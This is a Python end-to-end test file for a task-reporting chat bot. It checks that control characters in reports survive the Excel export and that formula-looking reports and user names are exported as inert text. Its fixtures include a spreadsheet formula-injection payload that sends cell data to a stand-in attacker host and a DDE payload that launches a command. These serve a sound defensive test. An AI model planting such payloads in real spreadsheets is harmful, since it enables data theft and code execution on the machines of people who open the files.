"""Hostile text with the real bot: control characters and formulas in reports and names.

综合科 holds tasks 1, 2, 8, 9 and 17 of the seed notice (see tests/e2e/test_nudges.py).
"""

from __future__ import annotations

import io

from openpyxl import load_workbook

from tests.e2e.conftest import ADMIN, REPLY_TIMEOUT, confirmed, launch, user
from tests.e2e.test_nudges import LI, seed

MALLORY = 1004
SNEAKY_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
TAB_NAME = "\t=cmd|' /C calc'!A0"
FORMULAS = ("=1+1", "+1+1", "-2+3", "@SUM(1+1)", "#N/A")


def report(api, chat: int, text: str, name: str = "李四") -> str:
    before = len(api.sent(chat))
    api.send_text(chat, text, user=user(chat, name))
    return api.wait_for_messages_sync(chat, before + 1, timeout=REPLY_TIMEOUT)[before].text


def report_ongoing(api, chat: int, text: str, name: str) -> str:
    """A report whose words say neither done nor ongoing (a formula) is asked back (issue 18):
    press 进行中, the second of its status choices, and return the reply to the press."""
    before = len(api.sent(chat))
    api.send_text(chat, text, user=user(chat, name))
    asked = api.wait_for_messages_sync(chat, before + 1, timeout=REPLY_TIMEOUT)[before]
    assert "是已完成，还是仍在办理" in asked.text, asked.text
    ongoing = api.message(chat, asked.message_id)["reply_markup"]["inline_keyboard"][0][1]
    assert ongoing["text"] == "进行中"
    api.press_button(chat, asked.message_id, ongoing["callback_data"], user=user(chat, name))
    return api.wait_for_messages_sync(chat, before + 2, timeout=REPLY_TIMEOUT)[before + 1].text


def export(api) -> bytes:
    before = len(api.sent(ADMIN))
    api.send_text(ADMIN, "/export", user=user(ADMIN, "办公室小陈"))
    [sent] = api.wait_for_messages_sync(ADMIN, before + 1, timeout=REPLY_TIMEOUT)[before:]
    assert sent.upload is not None, f"no workbook but: {sent.text}"
    return sent.upload.content


def test_a_control_character_in_a_report_does_not_break_the_export(api, tmp_path):
    seed(tmp_path, {LI: "综合科"})
    running = launch(api, tmp_path, "--now", "2021-11-15T10:00:00+08:00")
    try:
        # U+000B is Word's manual line break: read as a space, so this says 已完成.
        recorded = confirmed(api, LI, "第17项：已\x0b完成", "李四")
        assert recorded.startswith("已记录：综合科 第17项 已完成")
        assert confirmed(api, LI, "第1项：进展\x01顺利\x7f\x9b", "李四").startswith("已记录")
        book = load_workbook(io.BytesIO(export(api)))
        history = [row[7] for row in book["历史"].iter_rows(min_row=2, values_only=True)]
        assert history == ["已\n完成", "进展顺利"]
        assert report(api, LI, "撤回").startswith("已撤回")
        assert export(api)  # still exports after the withdrawal
    finally:
        assert running.stop() == 0


def test_formulas_in_reports_and_names_are_exported_as_text(api, tmp_path):
    seed(tmp_path, {LI: "综合科", MALLORY: "综合科"})
    running = launch(api, tmp_path, "--now", "2021-11-15T10:00:00+08:00")
    try:
        for task, text in zip((1, 2, 8, 9, 17), FORMULAS, strict=True):
            recorded = report_ongoing(api, MALLORY, f"第{task}项：{text}", SNEAKY_NAME)
            assert recorded.startswith("已记录")
        assert confirmed(api, LI, "第16项：完成一半", TAB_NAME).startswith("已记录")
        book = load_workbook(io.BytesIO(export(api)))
        cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
        assert [c.coordinate for c in cells if c.data_type in ("f", "e")] == []
        rows = list(book["历史"].iter_rows(min_row=2))
        assert [r[3].value for r in rows] == [SNEAKY_NAME] * 5 + [TAB_NAME]
        assert [r[7].value for r in rows[:5]] == list(FORMULAS)
        assert all(r[3].data_type == r[7].data_type == "s" for r in rows)
        # Excel's quote prefix keeps them text when the office edits a cell.
        assert all(r[7].quotePrefix for r in rows[:4])
        assert rows[5][3].quotePrefix
    finally:
        assert running.stop() == 0
